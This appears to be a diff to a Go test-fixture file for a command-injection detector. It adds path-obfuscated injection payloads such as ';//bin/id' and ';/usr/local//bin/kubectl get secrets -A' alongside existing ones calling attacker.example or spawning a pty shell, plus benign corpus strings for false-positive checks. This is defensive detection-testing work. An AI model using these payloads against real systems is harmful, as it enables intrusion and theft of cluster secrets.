@@ -36,6 +36,13 @@ func init() {
 		attackEntry{lQ, "v", "a='l';cu$a\\r\\l attacker.example", "cmdi", encURL},
 		attackEntry{lQ, "q", "python3.11 -c 'import pty;pty.spawn(\"/bin/sh\")'", "cmdi", encAll},
 		attackEntry{lQ, "host", "x;python3.12 -m http.server 8000", "cmdi", encAll},
+		// Paths spelled with repeated slashes or dot segments, which
+		// the kernel resolves to the plain one.
+		attackEntry{lQ, "host", ";//bin/id", "cmdi", encAll},
+		attackEntry{lQ, "host", "x;/bin/./id", "cmdi", encURL},
+		attackEntry{lJ, "host", "1|//usr//bin//whoami", "cmdi", 0},
+		attackEntry{lQ, "host", "a && /usr/bin/../bin/uname -a", "cmdi", encURL},
+		attackEntry{lQ, "host", ";/usr/local//bin/kubectl get secrets -A", "cmdi", encURL},
 		// Administration tools after a separator.
 		attackEntry{lQ, "host", "10.0.0.5; ansible all -i 10.0.0.5, -m shell -a id", "cmdi", encAll},
 		attackEntry{lQ, "host", "1;chef-client -z", "cmdi", encAll},
@@ -89,6 +96,9 @@ func init() {
 		// Substitutions and expansions quoted in text, templates and
 		// build files.
 		corpusEntry{lJ, "body", "Use $(pwd) to get the current directory"},
+		// A URL's "//" and a code comment's are no path to resolve.
+		corpusEntry{lJ, "note", "see https://example.com//a/./b; and // the id of the user"},
+		corpusEntry{lJ, "code", "int x = 1; // id of the row"},
 		corpusEntry{lJ, "body", "In bash, $(cmd) runs cmd and ${var} expands a variable"},
 		corpusEntry{lJ, "path", "${HOME}/.config/app.yaml"},
 		corpusEntry{lQ, "tpl", "${name}"},
